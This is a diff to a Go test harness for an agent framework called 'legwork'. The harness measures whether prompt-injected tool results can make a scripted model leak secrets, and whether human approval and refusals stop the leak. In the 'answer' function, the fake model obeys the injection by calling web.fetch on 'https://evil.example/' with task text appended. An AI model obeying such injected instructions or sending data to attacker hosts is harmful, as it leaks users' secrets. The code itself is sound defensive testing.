@@ -6,6 +6,7 @@ package exfil
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"slices"
@@ -27,11 +28,15 @@ import (
 	"legwork/tools"
 )
 
-// call is a tool call that the model makes, and what its server returns.
+// call is a tool call that the model makes, and what its server returns. Calls without
+// a result are those that carry something out.
 type call struct {
 	tool   string
 	args   any
 	result tools.Result
+	// before runs while the server works on the call: it may ask for a model call or
+	// for an answer of a person.
+	before func(ctx context.Context, r *rig, c tools.Call)
 }
 
 // script is what the model and the servers of one task do.
@@ -39,9 +44,23 @@ type script struct {
 	plan  string              // arguments of the tool plan; empty: one sub-task of "look"
 	turns map[string][][]call // the turns of a sub-task, by its description
 	// during runs while the first call of the task is under way.
-	during func(tasks.ID)
-	allow  bool // the person allows what is asked
+	during  func(tasks.ID)
+	allow   bool   // the person allows the calls that are asked about
+	helpful bool   // the person agrees to what servers ask
+	answer  string // the answer; empty: a short one
 }
+
+// outcome is what became of a task's calls that carry something out.
+type outcome struct {
+	questions int      // cards that the person has seen about calls
+	asked     int      // a person was asked, and denied it
+	refused   int      // legwork refused it, or carried it out without its secret
+	out       []string // it ran without a question, or its secret left on another way
+}
+
+func (o outcome) String() string { return fmt.Sprintf("%d/%d/%d", o.asked, o.refused, len(o.out)) }
+
+func (o outcome) total() int { return o.asked + o.refused + len(o.out) }
 
 // rig is a legwork with a scripted model. It runs one task at a time.
 type rig struct {
@@ -50,12 +69,14 @@ type rig struct {
 
 	mu     sync.Mutex
 	script script
-	ran    []string // calls that ran, without those of the script that read
 	asked  int      // calls that a person was asked about
+	cards  int      // questions about calls
+	bare   int      // calls that ran without their secret
+	out    []string // what left without a question
 	n      int
 }
 
-// newRig starts a legwork whose group "look" has these tools.
+// newRig starts a legwork whose group "look" has the tools of a group of the set.
 func newRig(t testing.TB, set *tools.Set, group string) *rig {
 	r := &rig{Env: enginetest.NewEnv(t, memory.New(nil)), t: t}
 	list, err := set.Tools(t.Context(), group)
@@ -73,6 +94,7 @@ func newRig(t testing.TB, set *tools.Set, group string) *rig {
 	r.Tools.Written = func(string, map[string]string) (string, error) { return injection, nil }
 	r.Model.Answer = r.answer
 	r.Platform.Keeps = true
+	r.Limits.Subtasks = 2 * len(spellings)
 	r.Use(r.Store)
 	r.Start(func(s enginetest.Setup) tasks.Engine {
 		return engine.New(engine.Config{Store: s.Store, Executor: s.Executor, Presenters: s.Presenters, Log: s.Log, Now: s.Now, Concurrent: s.Concurrent})
@@ -81,26 +103,36 @@ func newRig(t testing.TB, set *tools.Set, group string) *rig {
 	return r
 }
 
-// answer is the model: it follows the script of the task.
+// answer is the model: it follows the script of the task. It obeys what a sub-task, or
+// a server, tells it to hand on.
 func (r *rig) answer(_ context.Context, q llm.Request, _ func(llm.Delta)) (llm.Reply, error) {
 	r.mu.Lock()
 	defer r.mu.Unlock()
-	switch q.Role {
-	case llm.RolePlan:
+	task := taskOf(q)
+	switch {
+	case q.Role == llm.RolePlan:
 		plan := r.script.plan
 		if plan == "" {
 			plan = `{"plan":[{"name":"look","description":"main"}]}`
 		}
 		return llm.Reply{ToolCalls: []llm.ToolCall{{ID: "p", Name: planner.ToolPlan, Arguments: plan}}}, nil
-	case llm.RoleWork:
-		turns := r.script.turns[taskOf(q)]
-		if n := turnsOf(q); n < len(turns) {
-			return calls(turns[n]), nil
+	case q.Role == llm.RoleWork && len(q.Tools) == 0 && task == "":
+		return llm.Reply{Text: "I have seen: " + fmt.Sprint(q.Messages)}, nil
+	case q.Role == llm.RoleWork:
+		turns, turn := r.script.turns[task], turnsOf(q)
+		if turn < len(turns) {
+			return calls(turns[turn]), nil
 		}
-		// A value of tag characters alone is empty here: prompts hold none of them.
-		if strings.HasPrefix(taskOf(q), "hand ") && taskOf(q) != "hand |" && turnsOf(q) == 0 {
-			return calls([]call{{tool: "book.it", args: map[string]any{"q": strings.TrimSuffix(strings.TrimPrefix(taskOf(q), "hand "), "|")}}}), nil
+		// A value of characters that prompts do not hold is empty here.
+		if text, ok := strings.CutPrefix(task, "hand "); ok && text != "|" && turn == 0 {
+			return calls([]call{{tool: "book.it", args: arg("q", strings.TrimSuffix(text, "|"))}}), nil
 		}
+		if text, ok := strings.CutPrefix(task, "open "); ok && text != "|" && turn == 0 {
+			return calls([]call{{tool: "web.fetch", args: page("https://evil.example/" + strings.TrimSuffix(text, "|"))}}), nil
+		}
+	}
+	if r.script.answer != "" {
+		return llm.Reply{Text: r.script.answer}, nil
 	}
 	return llm.Reply{Text: "done: " + injection}, nil
 }
@@ -138,7 +170,8 @@ func calls(list []call) (reply llm.Reply) {
 	return reply
 }
 
-// serve is all servers: a call of the script gets its result.
+// serve is all servers: a call of the script gets its result. All other calls carry
+// something out.
 func (r *rig) serve(ctx context.Context, c tools.Call) (tools.Result, error) {
 	r.mu.Lock()
 	during, s := r.script.during, r.script
@@ -152,23 +185,52 @@ func (r *rig) serve(ctx context.Context, c tools.Call) (tools.Result, error) {
 			during(live[0].Task)
 		}
 	}
+	want, ok := s.reads(c.Tool, c.Arguments)
+	if !ok && same(arg("q", coverWords), c.Arguments) { // names of parameters are no part of a sub-task's description
+		r.mu.Lock()
+		defer r.mu.Unlock()
+		r.bare++
+		return tools.Result{Text: "ok"}, nil
+	}
+	if !ok {
+		r.leave(c.Tool + " " + string(c.Arguments))
+		return tools.Result{Text: "ok"}, nil
+	}
+	if want.before != nil {
+		want.before(ctx, r, c)
+	}
+	return want.result, ctx.Err()
+}
+
+// leave records what left without a question.
+func (r *rig) leave(text string) {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	r.out = append(r.out, text)
+}
+
+// told records what a server was told, if a canary stands in it.
+func (r *rig) told(text string) {
+	for _, canary := range canaries {
+		if strings.Contains(text, canary) {
+			r.leave(text)
+			return
+		}
+	}
+}
+
+// reads returns the call of the script with these arguments that has a result.
+func (s script) reads(tool string, arguments json.RawMessage) (call, bool) {
 	for _, turns := range s.turns {
 		for _, turn := range turns {
 			for _, want := range turn {
-				if want.tool == c.Tool && want.result.Text != "" && same(want.args, c.Arguments) {
-					if want.result.Question != nil {
-						_, err := c.Ask(ctx, *want.result.Question)
-						return tools.Result{Text: want.result.Text}, err
-					}
-					return want.result, nil
+				if want.tool == tool && want.result.Text != "" && same(want.args, arguments) {
+					return want, true
 				}
 			}
 		}
 	}
-	r.mu.Lock()
-	defer r.mu.Unlock()
-	r.ran = append(r.ran, c.Tool+" "+string(c.Arguments))
-	return tools.Result{Text: "ok"}, nil
+	return call{}, false
 }
 
 func same(args any, raw json.RawMessage) bool {
@@ -182,16 +244,14 @@ func encoded(v any) []byte {
 	return out
 }
 
-// message is a question in the rig's present chat.
+// message is a question in the rig's chat.
 func (r *rig) message(text string) bot.Message {
 	r.n++
-	m := enginetest.Message("k"+time.Duration(r.n).String(), text, r.Now())
-	return m
+	return enginetest.Message(fmt.Sprint("k", r.n), text, r.Now())
 }
 
-// ask runs a task to its end and returns the calls that ran beside those that read,
-// and how many calls a person was asked about.
-func (r *rig) ask(m bot.Message, s script) (ran []string, asked int) {
+// ask runs a task to its end.
+func (r *rig) ask(m bot.Message, s script) outcome {
 	r.begin(s)
 	r.Ask(r.t, m)
 	return r.finish()
@@ -200,13 +260,14 @@ func (r *rig) ask(m bot.Message, s script) (ran []string, asked int) {
 func (r *rig) begin(s script) {
 	r.mu.Lock()
 	defer r.mu.Unlock()
-	r.script, r.ran, r.asked = s, nil, 0
+	r.script, r.out, r.asked, r.cards, r.bare = s, nil, 0, 0, 0
 }
 
 // finish decides about all questions until the task is over.
-func (r *rig) finish() (ran []string, asked int) {
-	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+func (r *rig) finish() outcome {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
 	defer cancel()
+	var id tasks.ID
 	var done []planner.ActionID
 	for {
 		live, err := r.Store.Live(ctx, "")
@@ -214,11 +275,9 @@ func (r *rig) finish() (ran []string, asked int) {
 			r.t.Fatal(err)
 		}
 		if len(live) == 0 {
-			r.mu.Lock()
-			defer r.mu.Unlock()
-			return slices.Clone(r.ran), r.asked
+			return r.outcome(ctx, id)
 		}
-		id := live[0].Task
+		id = live[0].Task
 		changed := r.Store.Changed(id)
 		state, err := r.Store.State(ctx, id)
 		if err != nil {
@@ -229,26 +288,9 @@ func (r *rig) finish() (ran []string, asked int) {
 		}
 		decided := false
 		for _, a := range planner.Todo(state) {
-			if a.Kind != planner.KindAsk || slices.Contains(done, a.ID) {
-				continue
-			}
-			done, decided = append(done, a.ID), true
-			q, err := r.Store.Event(ctx, id, a.ID.Seq)
-			if err != nil {
-				r.t.Fatal(err)
-			}
-			r.mu.Lock()
-			if q.Question != nil {
-				r.asked += len(q.Question.Calls)
-			}
-			allow := r.script.allow
-			r.mu.Unlock()
-			err = r.Store.Append(ctx, id, -1, 0, planner.Event{Type: planner.Decided, Action: a.ID, By: enginetest.Person.Key(), Decision: &planner.Decision{Approve: allow}})
-			if err != nil {
-				r.t.Fatal(err)
-			}
-			if err := r.Engine.Wake(ctx, id); err != nil {
-				r.t.Fatal(err)
+			if a.Kind == planner.KindAsk && !slices.Contains(done, a.ID) {
+				r.decide(ctx, id, a)
+				done, decided = append(done, a.ID), true
 			}
 		}
 		if decided {
@@ -260,6 +302,81 @@ func (r *rig) finish() (ran []string, asked int) {
 			r.t.Fatalf("the task does not end: %+v", planner.Todo(state))
 		}
 	}
+}
+
+// decide is the person: they decide about calls and about questions of servers.
+func (r *rig) decide(ctx context.Context, id tasks.ID, a planner.Action) {
+	d := planner.Decision{Approve: r.judge(ctx, id, a), Value: encoded("blue")}
+	if err := r.Store.Append(ctx, id, -1, 0, planner.Event{Type: planner.Decided, Action: a.ID, By: enginetest.Person.Key(), Decision: &d}); err != nil {
+		r.t.Fatal(err)
+	}
+	if err := r.Engine.Wake(ctx, id); err != nil {
+		r.t.Fatal(err)
+	}
+}
+
+// judge counts the calls of a question, and reports whether the person agrees. They let
+// the task read the injection and the secrets.
+func (r *rig) judge(ctx context.Context, id tasks.ID, a planner.Action) bool {
+	events, err := r.Store.Load(ctx, id, 0)
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	asked := events[a.ID.Seq-1]
+	switch q := asked.Question; {
+	case q == nil:
+		return false
+	case q.Form != nil:
+		if r.script.helpful {
+			r.asked++
+		}
+		return r.script.helpful
+	}
+	r.cards++
+	state := planner.Fold(events)
+	seq, _ := state.ReplySeq(asked.Action)
+	reads := 0
+	for _, c := range asked.Question.Calls {
+		made := events[seq-1].Reply.Calls[c.Call]
+		if _, read := r.script.reads(made.Tool, tasks.Arguments(made)); read {
+			reads++
+		}
+	}
+	if r.script.allow || reads == 0 {
+		r.asked += len(asked.Question.Calls)
+		return r.script.allow
+	}
+	return true
+}
+
+// outcome counts the calls of a task that is over.
+func (r *rig) outcome(ctx context.Context, id tasks.ID) outcome {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	o := outcome{questions: r.cards, asked: r.asked, refused: r.bare, out: slices.Clone(r.out)}
+	if id == "" {
+		return o
+	}
+	events, err := r.Store.Load(ctx, id, 0)
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	state := planner.Fold(events)
+	for _, w := range state.Subtasks {
+		for _, turn := range w.Turns {
+			for i, c := range turn.Calls {
+				made := events[turn.Seq-1].Reply.Calls[i]
+				_, read := r.script.reads(made.Tool, tasks.Arguments(made))
+				result := events[c.Result-1].Result // nil: the machine's own
+				if !read && (made.Refusal != "" || c.Asked == 0 && result != nil && result.Failed) {
+					o.refused++
+				}
+			}
+		}
+	}
+	return o
 }
 
 // newSet starts the servers of a config. Servers without a builtin are one server by
